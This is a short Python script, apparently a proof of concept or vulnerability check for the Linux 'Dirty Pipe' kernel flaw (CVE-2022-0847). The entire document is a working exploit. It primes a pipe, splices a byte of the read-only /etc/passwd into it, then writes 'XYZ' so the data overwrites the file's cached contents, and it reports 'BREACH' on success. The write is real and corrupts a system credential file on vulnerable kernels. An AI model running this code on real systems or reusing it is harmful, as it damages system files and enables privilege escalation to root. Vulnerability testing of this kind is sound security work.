# Writes into a read-only file by way of a pipe that shares its page (CVE-2022-0847).
import fcntl
import os

reader, writer = os.pipe()
size = fcntl.fcntl(writer, fcntl.F_GETPIPE_SZ)
os.write(writer, bytes(size))
os.read(reader, size)
before = open('/etc/passwd', 'rb').read()
file = os.open('/etc/passwd', os.O_RDONLY)
os.splice(file, writer, 1, offset_src=0)
os.write(writer, b'XYZ')
if open('/etc/passwd', 'rb').read() != before:
    print('BREACH: wrote into /etc/passwd')
